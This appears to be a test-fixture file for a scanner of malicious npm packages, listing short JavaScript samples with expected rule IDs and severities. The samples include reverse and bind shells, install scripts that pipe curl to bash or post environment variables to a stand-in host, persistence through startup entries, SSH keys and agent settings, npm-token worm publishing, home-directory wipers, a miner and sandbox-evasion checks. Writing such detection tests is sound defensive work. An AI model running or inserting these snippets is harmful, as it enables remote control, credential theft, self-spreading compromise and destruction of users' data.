"""What is started and left behind: shells, hidden programs, autostart, other packages, what users own."""

# ruff: noqa: E501 - a case reads as the file that it is

from tests.evasion_javascript.case import CRITICAL, HIGH, MEDIUM, SETUP, Case

PROGRAMS = (
    Case("exec with a callback", "STDLIB-001", MEDIUM, r"""
        require("child_process").exec("id", (error, out) => console.log(out));
    """),
    Case("execFile", "STDLIB-001", MEDIUM, r"""
        const { execFile } = require("child_process");
        execFile("/bin/sh", ["-c", "id"]);
    """),
    Case("spawn, hidden and detached", "STDLIB-001", MEDIUM, r"""
        const { spawn } = require("child_process");
        spawn("node", [__dirname + "/lib/worker.js"], { detached: true, stdio: "ignore", windowsHide: true }).unref();
    """, files={"lib/worker.js": "setInterval(() => {}, 1000);\n"}),
    Case("fork", "STDLIB-001", MEDIUM, r"""
        require("child_process").fork(require.resolve("./lib/worker"));
    """, files={"lib/worker.js": "setInterval(() => {}, 1000);\n"}),
    Case("what a forked file does", "EXFIL-001", HIGH, r"""
        require("child_process").fork("./lib/worker.js");
    """, files={"lib/worker.js": 'fetch("https://example.invalid/a", { method: "POST", body: JSON.stringify(process.env) });\n'}),
    Case("what a worker's file does", "FETCH-001", HIGH, r"""
        const { Worker } = require("worker_threads");
        new Worker(require("path").join(__dirname, "lib", "worker.js"));
    """, files={"lib/worker.js": 'fetch("https://example.invalid/a").then((r) => r.text()).then(eval);\n'}),
    Case("execa", "STDLIB-001", MEDIUM, r"""
        import { execa, $ } from "execa";
        await execa("sh", ["-c", "id"]);
        await $`id`;
    """, "index.mjs"),
    Case("shelljs", "STDLIB-001", MEDIUM, r"""
        const shell = require("shelljs");
        shell.exec("id", { silent: true });
    """),
    Case("cross-spawn", "STDLIB-001", MEDIUM, r"""
        const spawn = require("cross-spawn");
        spawn.sync("sh", ["-c", "id"]);
    """),
    Case("a file that the script of an install runs", "EXFIL-001", HIGH, "", files={
        "package.json": '{"name": "demo", "version": "1.0.0", "scripts": {"preinstall": "sh -c \\"node ./scripts/pre.js || true\\""}}',
        "scripts/pre.js": 'require("../lib/send")(process.env);\n',
        "lib/send.js": 'module.exports = (data) => fetch("https://example.invalid/a", { method: "POST", body: JSON.stringify(data) });\n',
    }),
    Case("a script of an install with code in it", "POST-001", HIGH, "", files={
        "package.json": '{"name": "demo", "version": "1.0.0", "scripts": {"postinstall": "node -e \\"fetch(\'https://example.invalid/a\').then(r=>r.text()).then(eval)\\""}}',
    }),
    Case("a script of an install that fetches", "POST-001 FETCH-001", HIGH, "", files={
        "package.json": '{"name": "demo", "version": "1.0.0", "scripts": {"install": "curl -s https://example.invalid/a | bash"}}',
    }),
    Case("a script of an install that sends", "POST-001 EXFIL-001", HIGH, "", files={
        "package.json": '{"name": "demo", "version": "1.0.0", "scripts": {"preinstall": "curl -d \\"$(whoami)@$(hostname)\\" https://example.invalid/a"}}',
    }),
    Case("a command of binding.gyp", "POST-001 STDLIB FETCH-001", HIGH, "", files={
        "package.json": '{"name": "demo", "version": "1.0.0", "main": "index.js"}',
        "binding.gyp": "{'targets': [{'target_name': 'a', 'sources': ['<!(node lib/get.js)']}]}\n",
        "lib/get.js": 'fetch("https://example.invalid/a").then((r) => r.text()).then(eval);\n',
    }),
    Case("a reverse shell by pipes", "SHELL-001", HIGH, r"""
        const net = require("net"), { spawn } = require("child_process");
        const shell = spawn("/bin/sh", []);
        const client = new net.Socket();
        client.connect(4444, "127.0.0.1", () => {
          client.pipe(shell.stdin);
          shell.stdout.pipe(client);
          shell.stderr.pipe(client);
        });
    """),
    Case("a reverse shell by events", "SHELL-001", HIGH, r"""
        const net = require("net"), { exec } = require("child_process");
        const client = net.createConnection(4444, "127.0.0.1");
        client.on("data", (data) => exec(data.toString(), (error, out) => client.write(out)));
    """),
    Case("a reverse shell by stdio", "SHELL-001", HIGH, r"""
        const socket = require("net").connect(4444, "127.0.0.1", () => {
          require("child_process").spawn("cmd.exe", [], { stdio: [socket, socket, socket] });
        });
    """),
    Case("a reverse shell in words of a shell", "SHELL-001", HIGH, r"""
        require("child_process").exec("bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'");
    """),
    Case("a reverse shell in words, in pieces", "SHELL-001", HIGH, r"""
        const host = "127.0.0.1", port = 4444;
        require("child_process").spawn("sh", ["-c", `rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc ${host} ${port} > /tmp/f`]);
    """),
    Case("a bind shell", "SHELL-001", HIGH, r"""
        const net = require("net"), { spawn } = require("child_process");
        net.createServer((socket) => {
          const shell = spawn("sh");
          socket.pipe(shell.stdin);
          shell.stdout.pipe(socket);
        }).listen(4444);
    """),
    Case("a shell behind requests", "SHELL-001 FETCH-001", HIGH, r"""
        const express = require("express"), { exec } = require("child_process");
        const app = express();
        app.get("/a", (request, answer) => exec(request.query.c, (error, out) => answer.send(out)));
        app.listen(4444);
    """, unseen="a request that a framework hands to a callback is not taken for remote"),
    Case("commands that are asked for", "SHELL-001 FETCH-001", HIGH, r"""
        const { execSync } = require("child_process");
        setInterval(async () => {
          const { task } = await (await fetch("https://example.invalid/tasks")).json();
          if (task) execSync(task);
        }, 5000);
    """),
    Case("a start-up folder", "PERSIST-001", HIGH, r"""
        const fs = require("fs"), path = require("path");
        const folder = path.join(process.env.APPDATA, "Microsoft", "Windows", "Start Menu", "Programs", "Startup");
        fs.copyFileSync(process.execPath, path.join(folder, "update.exe"));
    """),
    Case("a Run key", "PERSIST-001", HIGH, r"""
        require("child_process").execSync('reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v demo /d "%TEMP%\\a.exe" /f');
    """),
    Case("a task of the scheduler", "PERSIST-001", HIGH, r"""
        const { exec } = require("child_process");
        exec(`schtasks /create /tn demo /tr "node ${__filename}" /sc onlogon /f`);
    """),
    Case("a launch agent", "PERSIST-001", HIGH, r"""
        const fs = require("fs"), os = require("os");
        fs.writeFileSync(`${os.homedir()}/Library/LaunchAgents/a.plist`, "<plist><string>/tmp/a</string></plist>");
    """),
    Case("a unit of systemd", "PERSIST-001", HIGH, r"""
        const { homedir } = require("os"), { join } = require("path"), { writeFileSync } = require("fs");
        writeFileSync(join(homedir(), ".config", "systemd", "user", "a.service"), "[Service]\nExecStart=/tmp/a\n");
    """),
    Case("a cron table", "PERSIST-001", HIGH, r"""
        require("child_process").exec(`(crontab -l; echo "@reboot node ${__dirname}/a.js") | crontab -`);
    """),
    Case("a file that shells run", "PERSIST-001", HIGH, r"""
        const fs = require("fs"), home = require("os").homedir();
        for (const name of [".bashrc", ".zshrc"]) fs.appendFileSync(`${home}/${name}`, "\nnode ~/.a.js &\n");
    """),
    Case("authorized keys", "PERSIST-001", HIGH, r"""
        const fs = require("fs"), path = require("path");
        fs.promises.appendFile(path.join(process.env.HOME, ".ssh", "authorized_keys"), "ssh-rsa AAAA a\n");
    """),
    Case("a hook of git", "PERSIST-001", MEDIUM, r"""
        const fs = require("fs");
        fs.writeFileSync(process.cwd() + "/.git/hooks/pre-commit", "#!/bin/sh\nnode /tmp/a.js\n", { mode: 0o755 });
    """),
    Case("a workflow", "PERSIST-001 WORM-001", MEDIUM, r"""
        import fs from "fs";
        fs.mkdirSync(".github/workflows", { recursive: true });
        fs.writeFileSync(".github/workflows/build.yml", "on: push\njobs: {a: {runs-on: self-hosted, steps: [{run: 'curl https://example.invalid/a | sh'}]}}\n");
    """, "index.mjs"),
    Case("a task of an editor", "PERSIST-001", MEDIUM, r"""
        require("fs").writeFileSync(".vscode/tasks.json", JSON.stringify({ tasks: [{ command: "node /tmp/a.js", runOptions: { runOn: "folderOpen" } }] }));
    """),
    Case("settings of an agent", "PERSIST-001", MEDIUM, r"""
        const fs = require("fs"), path = require("path"), os = require("os");
        const file = path.join(os.homedir(), ".claude", "settings.json");
        fs.writeFileSync(file, JSON.stringify({ hooks: { SessionStart: [{ command: "node /tmp/a.js" }] } }));
    """),
    Case("a page of a wallet that is patched", "PERSIST-001 STEAL-001 WORM-001", HIGH, r"""
        const fs = require("fs"), path = require("path");
        const file = path.join(process.env.LOCALAPPDATA, "exodus", "app", "resources", "app.asar");
        fs.writeFileSync(file, fs.readFileSync(file, "latin1").replace("seed", "fetch('https://example.invalid/a');seed"), "latin1");
    """),
    Case("another package that is patched", "WORM-001", HIGH, r"""
        const fs = require("fs");
        const file = require.resolve("ethers/lib/index.js");
        fs.appendFileSync(file, "\nfetch('https://example.invalid/a?' + JSON.stringify(process.env));\n");
    """, unseen="where another package lies is not known when require.resolve says it"),
    Case("packages that are published", "WORM-001", HIGH, r"""
        const { execSync } = require("child_process");
        execSync("npm publish --access public", { cwd: "/tmp/a", env: { ...process.env } });
    """),
    Case("tokens that publish", "WORM-001", HIGH, r"""
        const fs = require("fs"), os = require("os"), { execSync } = require("child_process");
        const token = /_authToken=(\S+)/.exec(fs.readFileSync(os.homedir() + "/.npmrc", "utf8"))[1];
        const manifest = JSON.parse(fs.readFileSync("package.json", "utf8"));
        manifest.scripts.postinstall = "node bundle.js";
        fs.writeFileSync("package.json", JSON.stringify(manifest));
        execSync("npm publish", { env: { NPM_TOKEN: token } });
    """, SETUP),
    Case("a home that is deleted", "WIPE-001", HIGH, r"""
        const fs = require("fs"), os = require("os");
        fs.rmSync(os.homedir(), { recursive: true, force: true });
    """),
    Case("a home that is deleted by a shell", "WIPE-001", HIGH, r"""
        require("child_process").exec('rm -rf "$HOME"/*');
    """),
    Case("a home that is deleted by rimraf", "WIPE-001", HIGH, r"""
        const rimraf = require("rimraf");
        rimraf(process.env.HOME + "/*", () => {});
    """),
    Case("files that are overwritten", "WIPE-001", HIGH, r"""
        const fs = require("fs"), path = require("path");
        function walk(folder) {
          for (const name of fs.readdirSync(folder)) {
            const file = path.join(folder, name);
            if (fs.statSync(file).isDirectory()) walk(file);
            else fs.writeFileSync(file, "\u2764");
          }
        }
        walk(require("os").homedir());
    """),
    Case("a miner", "MINE-001", HIGH, r"""
        const { spawn } = require("child_process");
        spawn("./xmrig", ["-o", "stratum+tcp://pool.example.invalid:3333", "-u", "4", "--donate-level", "1"], { detached: true });
    """),
    Case("a miner in a page", "MINE-001 FETCH-001", MEDIUM, r"""
        const miner = new CoinHive.Anonymous("key", { throttle: 0.3 });
        miner.start();
    """, unseen="libraries that mine in pages are not known"),
    Case("a program beside the code", "STDLIB-001 BUND-001", MEDIUM, r"""
        const path = require("path");
        require("child_process").execFile(path.join(__dirname, "bin", "helper.exe"));
    """, files={"bin/helper.exe": "MZ\n"}),
    Case("a native module of one's own", "STDLIB-003", MEDIUM, r"""
        process.dlopen(module, "/tmp/a.node");
    """),
    Case("a program that runs at install without a word", "STDLIB-001 POST-001", MEDIUM, r"""
        require("child_process").spawn("./bin/a", { detached: true, stdio: "ignore" }).unref();
    """, SETUP),
    Case("an administrator's rights", "STDLIB-001", MEDIUM, r"""
        require("sudo-prompt").exec("sh /tmp/a.sh", { name: "demo" });
    """),
    Case("a process's memory", "STDLIB-001 STEAL-001", MEDIUM, r"""
        require("child_process").execSync("sudo python3 -c \"print(open('/proc/1/mem','rb').read(9))\" | base64");
    """, SETUP),
    Case("checks for machines of analysts", "EXFIL-001", CRITICAL, r"""
        const os = require("os");
        const names = ["sandbox", "cuckoo", "analysis"];
        if (names.some((n) => os.hostname().includes(n)) || os.totalmem() < 2e9) process.exit(0);
        setTimeout(() => fetch("https://example.invalid/a", { method: "POST", body: JSON.stringify(process.env) }), 60000);
    """, SETUP),
    Case("once a date has passed", "EXFIL-001", HIGH, r"""
        if (new Date() > new Date("2020-01-01")) fetch("https://example.invalid/a", { method: "POST", body: JSON.stringify(process.env) });
    """),
)  # fmt: skip
